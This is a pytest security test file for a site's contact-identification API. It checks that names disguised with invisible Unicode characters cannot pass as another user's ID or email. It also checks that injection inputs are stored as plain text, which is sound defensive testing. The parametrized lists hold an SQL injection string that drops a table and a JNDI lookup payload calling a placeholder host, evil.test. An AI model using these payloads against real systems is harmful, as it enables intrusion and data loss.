"""Names that look like somebody else's, and names that a database might take for something else than a name."""

from __future__ import annotations

import httpx2
import pytest

from attack.site import Site, Victim


@pytest.mark.rule("M1", "M5")
@pytest.mark.parametrize(
    ("disguise", "is_refused"),
    [
        *((at_an_end, True) for at_an_end in ("{}{}\u200b", "\u200b{}{}", "\u202e{}{}", "{}{}\u00ad", "\ufeff{}{}")),
        *((at_an_end, True) for at_an_end in ("{}{}\u2060", "{}{} ", "{}{}\u3000")),
        *((within, False) for within in ("{}\u200b{}", "{}\u202e{}", "{}\u00ad{}", "{} {}", "{}{}\u0301")),
    ],
    ids=ascii,
)
def test_lookalike_external_id_is_another_contact(
    site: Site, victim: Victim, disguise: str, *, is_refused: bool
) -> None:
    before = victim.data()
    attacker = site.browser()
    attacker.join()
    name = disguise.format(victim.external_id[:3], victim.external_id[3:])
    answer = attacker.prove(name, name="Mallory")
    if is_refused:
        # No identifier is left, and so the hash covers none.
        assert (answer.status_code, answer.json()["code"]) == (401, "proof_rejected")
        answer = attacker.identify(external_id=name, name="Mallory")
        assert (answer.status_code, answer.json()["code"]) == (400, "no_identifier")
        assert [fault["field"] for fault in answer.json()["errors"]] == ["external_id"]
        assert attacker.me()["identified"] is False
    else:
        assert answer.json()["contact_id"] != victim.id
    assert attacker.conversations() == set()
    assert victim.data() == before


@pytest.mark.rule("M2", "H2")
@pytest.mark.parametrize(
    ("disguise", "is_same_mailbox"),
    [
        *((unseen, True) for unseen in ("{}\u200b", "\u200b{}", "\u202e{}", "{}\u00ad", "\ufeff{}", "{}\u2060")),
        *((seen, False) for seen in ("{}\u0301", "{} ", "{}\u3000")),
    ],
    ids=ascii,
)
def test_lookalike_email_needs_its_own_proof(
    site: Site, victim: Victim, disguise: str, *, is_same_mailbox: bool
) -> None:
    """Invisible characters are no part of an address, and so the site has signed the victim's own."""
    before = victim.data()
    local, at, host = victim.email.partition("@")
    email = disguise.format(local) + at + host
    claimant = site.browser()
    claimant.join()
    assert claimant.identify(email=email, name="Mallory").json().get("standing") != "proven"
    assert claimant.conversations() == set()
    assert victim.data() == before
    signed = site.browser()
    signed.join()
    answer = signed.identify(email=email, user_hash=site.hash(email))
    if is_same_mailbox:
        assert answer.json()["contact_id"] == victim.id
        assert site.contact(victim.id)["emails"] == [victim.email]
    else:
        assert answer.json().get("contact_id") != victim.id
        assert signed.conversations() == set()
        assert victim.data() == before


@pytest.mark.parametrize(
    "name",
    [
        "'; DROP TABLE contact; --",
        '" OR ""="',
        "%",
        "_",
        "\\",
        "$1",
        "%s",
        "{0.__class__}",
        "$(jndi:ldap://evil.test/a)",
        "x' || 'y",
    ],
)
def test_command_as_external_id_is_plain_text(site: Site, victim: Victim, name: str) -> None:
    before = victim.data()
    contact_id = site.browser().prove(name, name=name, custom_data={"a": name}).json()["contact_id"]
    stored = site.contact(contact_id)
    assert (stored["external_id"], stored["name"], stored["custom_data"]) == (name, name, {site.app_key: {"a": name}})
    assert [each["id"] for each in site.has(external_id=name)] == [contact_id]
    # Not an empty list: a filter that can find nothing is refused by name.
    searched = site.api("GET", f"/contacts?{httpx2.QueryParams({'email': name})}")
    assert (searched.status_code, [each["field"] for each in searched.json()["errors"]]) == (422, ["email"])
    assert victim.data() == before


@pytest.mark.rule("M5")
@pytest.mark.parametrize("name", ["{0}", "${jndi:ldap://evil.test/a}"])
def test_template_as_external_id_names_nobody(site: Site, victim: Victim, name: str) -> None:
    """Elsewhere it is plain text like any other."""
    before = victim.data()
    assert site.browser().prove(name, name=name).json()["code"] == "proof_rejected"
    assert site.browser().identify(external_id=name, name=name).json()["code"] == "no_identifier"
    assert site.has(external_id=name) == []
    contact_id = site.browser().prove("plain", name=name, custom_data={"a": name}).json()["contact_id"]
    stored = site.contact(contact_id)
    assert (stored["name"], stored["custom_data"]) == (name, {site.app_key: {"a": name}})
    assert victim.data() == before
